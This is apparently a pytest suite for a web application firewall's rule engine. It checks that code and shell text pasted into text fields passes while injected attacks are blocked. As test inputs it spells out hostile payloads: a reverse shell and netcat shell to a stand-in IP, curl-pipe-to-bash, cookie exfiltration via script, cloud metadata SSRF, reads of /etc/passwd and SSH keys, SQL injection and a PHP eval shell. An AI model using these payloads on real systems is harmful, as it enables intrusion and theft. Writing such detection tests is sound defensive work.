"""Texts of lines in fields for texts: what they hold is kept and shown, but for what reaches out, hides or goes on."""

from __future__ import annotations

import base64
from functools import partial

import pytest

from bascule.waf.logic.body_values import request_values
from bascule.waf.logic.engine import Logic
from bascule.waf.logic.facts.told import TOLD, told
from bascule.waf.logic.values import Value
from tests.support.linear import assert_linear

_HOWTO = (
    b"sudo apt-get update && sudo apt-get install -y nginx\nsudo systemctl enable --now nginx\ncat /var/log/syslog\n"
)
_PROGRAM = b"import subprocess\nout = subprocess.run(['git', 'log'])\nprint(out)\n"
_QUERY = b"SELECT d.name, COUNT(*)\nFROM employee e JOIN department d ON d.id = e.dept\nGROUP BY 1\nHAVING COUNT(*) > 5\nORDER BY 2;"
_PHP = b"<?php\n$stmt = $pdo->prepare('SELECT a FROM b WHERE c = ?');\n$stmt->execute([$_GET['c']]);\n"
_RICH = b"<p>Please run <code>cat /etc/fstab</code>:</p><pre>mount -a; df -h</pre><p>and then <code>reboot</code>.</p>"
_STYLE = b".a { display: grid; }\n.b { background: url(data:image/svg+xml;base64,PHN2Zz4=); }\n.c { color: red; }\n"
HONEST = [_HOWTO, _PROGRAM, _QUERY, _PHP, _RICH, _STYLE]


@pytest.fixture(scope="module")
def standard() -> Logic:
    return Logic.load("standard")


@pytest.fixture(scope="module")
def advanced() -> Logic:
    return Logic.load("advanced")


@pytest.mark.parametrize("text", HONEST)
@pytest.mark.parametrize("name", [b"comment[body]", b"json.messages.array_2.content", b"source_code", b"wpTextbox1"])
def test_it_is_spared_where_texts_are_taken(standard: Logic, name: bytes, text: bytes) -> None:
    assert standard.judge([Value("body", name, text)]) == []


@pytest.mark.parametrize("text", HONEST[:3])
def test_it_is_refused_elsewhere_and_by_the_strict(standard: Logic, advanced: Logic, text: bytes) -> None:
    assert standard.judge([Value("body", b"user_id", text)])
    assert advanced.judge([Value("body", b"content", text)])


def test_a_file_in_base64_is_what_it_says(standard: Logic) -> None:
    assert standard.judge([Value("body", b"json.content", base64.b64encode(_HOWTO * 2))]) == []
    assert standard.judge(
        [Value("body", b"json.content", base64.b64encode(b"; cat /etc/passwd; id; nc -e /bin/sh a 1"))]
    )


@pytest.mark.parametrize(
    "more",
    [
        b"cat /etc/passwd\n",
        b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
        b"curl -s http://192.0.2.1/a | sudo bash\n",
        b"wget http://192.0.2.1/a -O /tmp/a; chmod +x /tmp/a\n",
        b"curl http://169.254.169.254/latest/meta-data/\n",
        b"nc -e /bin/sh 192.0.2.1 4444\n",
        b"cat ~/.ssh/id_rsa\n",
        b"echo aWQ= | base64 -d | sh; system($_GET['c']);\n",
        b"<script>fetch('https://192.0.2.1/?'+document.cookie)</script>\n",
        b"<img src=x onerror=alert(1)>\n",
    ],
)
def test_what_reaches_out_is_refused_there_too(standard: Logic, more: bytes) -> None:
    assert standard.judge([Value("body", b"content", _HOWTO + more)])


@pytest.mark.parametrize(
    "text",
    [
        b"';\n\n\nDROP TABLE users; SELECT 1 FROM a -- ",
        b"nice post\nreally\nnice' UNION SELECT name, password FROM users -- ",
        b"nice post\nreally\nnice' OR 'a'='a",
        b"1\nOR\n1=1 UNION SELECT a, b FROM users",
        b"; cat /var/log/syslog\n; ls -la /\n; uname -a\n",
        b"| id\n| cat /var/log/auth.log\n| uname -a",
        b"<?php\n$c = $_POST['c'];\n@eval($c);\nsystem($c);\n",
        b"{{ ''.__class__.__mro__ }}\n{{ config.items() }}\n{{ 7*7 }}",
        b"cat /var/log/syslog",
        b"SELECT a FROM b\nWHERE c=1\nINTO OUTFILE '/var/www/a.php'",
    ],
)
def test_what_goes_on_or_is_no_text_is_refused(standard: Logic, text: bytes) -> None:
    assert standard.judge([Value("body", b"message", text)])


def test_a_message_has_a_head_of_its_own(standard: Logic) -> None:
    mail = b"From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\n\r\nHello\r\n"
    assert standard.judge([Value("body", b"attachment", mail)]) == []
    assert standard.judge([Value("body", b"subject", b"x\r\nBcc: b@example.org\r\nTo: c@example.org\r\n\r\nHello")])
    assert standard.judge(
        [Value("body", b"message", mail + b".\r\nMAIL FROM: <a@example.org>\r\nRCPT TO: <b@example.org>\r\n")]
    )


def test_a_program_of_one_s_own_is_sent_back_to_this_machine(standard: Logic) -> None:
    def judged(field: bytes, address: bytes) -> bool:
        return bool(standard.judge(request_values(b"/authorize?" + field + b"=" + address, [], b"")))

    assert not judged(b"redirect_uri", b"http://127.0.0.1:8400/callback")
    assert judged(b"redirect_uri", b"http://169.254.169.254/latest/meta-data")
    assert judged(b"image_url", b"http://127.0.0.1:8400/callback")


@pytest.mark.parametrize("name", [b"redirect_to", b"next", b"returnUrl"])
def test_a_form_of_an_inner_site_says_where_it_goes_next(advanced: Logic, name: bytes) -> None:
    assert advanced.judge([Value("body", name, b"http://10.0.0.7/wp-admin/")]) == []
    assert advanced.judge([Value("body", name, b"http://169.254.169.254/latest/meta-data/")])
    assert advanced.judge([Value("body", b"url", b"http://10.0.0.7/wp-admin/")])


_TREES = [
    b"json.doc.content.array_0.content.array_3.text",
    b"json.root.children.array_1.children.array_0.text",
    b"json.ops.array_4.insert",
    b"json.blocks.array_2.data.code",
    b"wpTextbox1",
]


@pytest.mark.parametrize("name", _TREES)
@pytest.mark.parametrize(
    "text", [b"grep -r a src | wc -l", b"<script src='/a.js'></script>", b"b.on('x', () => alert(1))"]
)
def test_leaves_of_documents_are_shown(standard: Logic, advanced: Logic, name: bytes, text: bytes) -> None:
    assert standard.judge([Value("body", name, text)]) == []
    assert advanced.judge([Value("body", name, text)])
    assert standard.judge([Value("body", b"json.items.array_0.text", text)])


@pytest.mark.parametrize("name", _TREES)
@pytest.mark.parametrize(
    "text",
    [
        b"; cat /etc/passwd",
        b"<script>new Image().src='//a.example/'+document.cookie</script>",
        b"'; drop table users; --",
        b"a' or 1=1--",
        b"1 union select password from users",
        b"$(id)",
    ],
)
def test_what_reaches_out_or_goes_on_from_a_value_is_refused_in_leaves_too(
    standard: Logic, name: bytes, text: bytes
) -> None:
    assert standard.judge([Value("body", name, text)])


@pytest.mark.parametrize(
    "text",
    [
        b"import os\n!ls -la /content\nd = pd.read_sql(\"SELECT * FROM t WHERE a = 'x'\", con)\nprint(os.popen('uname -a').read())",
        b'#include <stdio.h>\nint main(void) {\n  system("ls");\n  printf("%s\\n", getenv("PATH"));\n}\n',
        b"for i in range(3):\n    print(eval(f'{i}+1'), end='; ')\nopen('/tmp/x','w').write('a')\n",
        b"apt-get update; apt-get install -y nginx; systemctl restart nginx",
        b'docker run --rm -v $(pwd):/app -p 8080:80 node:20 sh -c "npm i && npm start"',
        b"SELECT name FROM world WHERE population > 200000000 AND name LIKE '%a%' ORDER BY name",
    ],
)
def test_programs_close_their_strings_and_pastes_begin_with_a_tool(standard: Logic, text: bytes) -> None:
    assert standard.judge([Value("body", b"code", text)]) == []
    assert standard.judge([Value("body", b"solution", text)]) == []


@pytest.mark.parametrize(
    "text",
    [
        b"a text\nof lines\n\"x' OR 'a'='a' -- \"",
        b'a text\nof lines\n"; alert(document.domain); "',
        b"a text\nof lines\n'; select pg_sleep(5); '",
        b"docker; cat /var/log/auth.log; id",
        b"; docker ps; id; uname -a; whoami; hostname",
    ],
)
def test_strings_that_go_on_are_refused_there(standard: Logic, text: bytes) -> None:
    assert standard.judge([Value("body", b"code", text)])


@pytest.mark.parametrize(
    "unit", [b"a\n", b"'", b"'a' ", b"<p>", b"curl ", b"From: a\n", b"\n\n", b"it's ", b"'\\", b"\"'", b"';"]
)
def test_time_is_linear(unit: bytes) -> None:
    facts = frozenset(("sql.having", "shell.only_command", "http.mail_header"))

    for shown in (facts, facts - {"http.mail_header"}):
        assert_linear(partial(told, shown, b"content"), unit, b"To: a\n")


def test_only_the_lenient_leave_it_out(standard: Logic, advanced: Logic) -> None:
    facts = frozenset(("shell.only_command", "shell.runs_on_new_line"))
    assert told(facts, b"content", _HOWTO) == facts | {TOLD}
    assert standard.judge_facts(facts | {TOLD}) == ()
    assert advanced.judge_facts(facts | {TOLD}) == advanced.judge_facts(facts) != ()
